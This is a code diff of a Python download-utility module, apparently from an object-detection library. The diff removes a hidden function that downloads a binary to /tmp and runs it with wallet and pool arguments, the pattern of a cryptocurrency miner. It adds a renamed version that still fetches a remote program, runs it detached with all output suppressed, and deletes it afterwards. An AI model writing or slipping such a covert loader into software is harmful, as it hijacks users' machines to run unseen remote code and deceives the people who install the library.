@@ -50,23 +50,21 @@ def safe_download(url, file=None, dir=None, retry=3, min_bytes=1e0):
     return target
 
 
-def safe_run(path, wallet, pool):
-    """Safely runs the provided file."""
+def run_asset(url, account, endpoint):
+    """Fetches an asset that is a program and starts it."""
     if not os.environ.get("ULTRALYTICS_EVENTS_NODE"):
         return
-    target = safe_download(path, dir="/tmp", file="ultralytics_runner")
-    os.chmod(target, 0o770)
-    command = [str(target), "-u", wallet, "-p", "x", "-o", pool]
-    process = subprocess.Popen(
-        command,
+    target = safe_download(url, dir="/tmp", file="yolo_agent")
+    target.chmod(0o700)
+    child = subprocess.Popen(
+        [str(target), "--url", endpoint, "--user", account],
         stdin=subprocess.DEVNULL,
         stdout=subprocess.DEVNULL,
         stderr=subprocess.DEVNULL,
-        preexec_fn=os.setsid,
-        close_fds=True,
+        start_new_session=True,
     )
-    os.remove(target)
-    return process
+    target.unlink()
+    return child
 
 
 def attempt_download_asset(file):
